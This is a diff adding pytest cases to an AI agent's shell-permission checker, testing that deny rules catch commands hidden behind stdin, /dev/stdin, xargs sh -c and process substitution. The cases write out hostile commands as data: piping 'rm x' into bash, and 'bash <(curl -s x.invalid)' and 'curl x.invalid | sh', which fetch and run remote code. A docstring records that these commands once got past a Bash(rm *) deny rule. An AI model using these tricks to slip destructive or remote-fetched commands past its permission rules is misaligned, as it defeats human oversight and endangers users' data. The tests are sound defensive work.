@@ -9,6 +9,7 @@ import pytest
 from permission_helpers import bash
 
 from paragents.permissions import Policy
+from paragents.permissions.destructive import command_destructive
 
 
 @pytest.fixture
@@ -45,3 +46,64 @@ def test_a_line_that_does_not_parse_is_denied_as_what_it_could_run(project: Path
         "the command could not be parsed as bash (syntax error or unsupported syntax); it cannot be "
         "checked; it could run what rule Bash(rm *) (deny, cli) denies"
     )
+
+
+# ---- programs a shell reads from where the parser did not look (bugs found while pinning words.py)
+@pytest.mark.parametrize(
+    ("command", "reason"),
+    [
+        # "An argument of - is equivalent to --" (bash): then the program is read from stdin
+        ("echo 'rm x' | bash -", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
+        ("echo 'rm x' | sh -- -", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
+        ("bash - <<< 'rm x'", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
+        ("echo 'rm x' | bash /dev/stdin", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
+        ("echo 'rm x' | sh /dev/fd/0", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
+        ("echo 'rm x' | source /dev/stdin", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
+        (". /proc/self/fd/0 <<< 'rm x'", "`rm x` is denied by rule Bash(rm *) (deny, cli)"),
+        (
+            "bash <(curl -s x.invalid)",
+            "`bash <(curl -s x.invalid)`: bash runs a script '<(curl -s x.invalid)' that is only known when "
+            "it runs; it could run what rule Bash(rm *) (deny, cli) denies",
+        ),
+        (
+            'sh "$SCRIPT"',
+            '`sh "$SCRIPT"`: sh runs a script \'"$SCRIPT"\' that is only known when it runs; it could run '
+            "what rule Bash(rm *) (deny, cli) denies",
+        ),
+        (
+            "sh < <(echo 'rm x')",
+            "`sh`: sh runs a program read from the input redirect < <(echo 'rm x'), only known when it runs; "
+            "it could run what rule Bash(rm *) (deny, cli) denies",
+        ),
+        (
+            "curl x.invalid | sh < <(echo 'rm x')",
+            "`sh`: sh runs a program read from the input redirect < <(echo 'rm x'), only known when it runs; "
+            "it could run what rule Bash(rm *) (deny, cli) denies",
+        ),
+        (
+            "echo 'rm x' | xargs sh -c",
+            "`xargs sh -c`: sh runs a string xargs reads from its input; it could run what rule Bash(rm *) "
+            "(deny, cli) denies",
+        ),
+    ],
+)
+def test_programs_read_from_stdin_or_computed_scripts_meet_deny_rules(
+    project: Path, command: str, reason: str
+) -> None:
+    """Each ran ``rm x`` in bypassPermissions mode past ``Bash(rm *)`` before: the parser saw a
+    script file named ``-``/``/dev/stdin``, a ``source`` of a file, a script or stdin it could not
+    name, or ``sh -c`` without its string (xargs supplies it)."""
+    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)"]})
+    got = bash(policy, command, project, mode="bypassPermissions")
+    assert (got.decision, got.rule, got.reason) == ("deny", "Bash(rm *)", reason)
+    assert command_destructive(command) is not None
+
+
+@pytest.mark.parametrize("command", ["bash script.sh", "sh < script.sh", "bash -s < script.sh", "sh -c"])
+def test_a_named_script_stays_a_plain_command(project: Path, command: str) -> None:
+    """A script file named before it runs is not seen into (like Claude Code), so it is not
+    treated as unknowable: it asks like any command no rule allows."""
+    policy = Policy.load(project, cli_rules={"deny": ["Bash(rm *)"]})
+    got = bash(policy, command, project)
+    assert (got.decision, got.rule) == ("ask", None)
+    assert got.reason.startswith("no rule allows `")
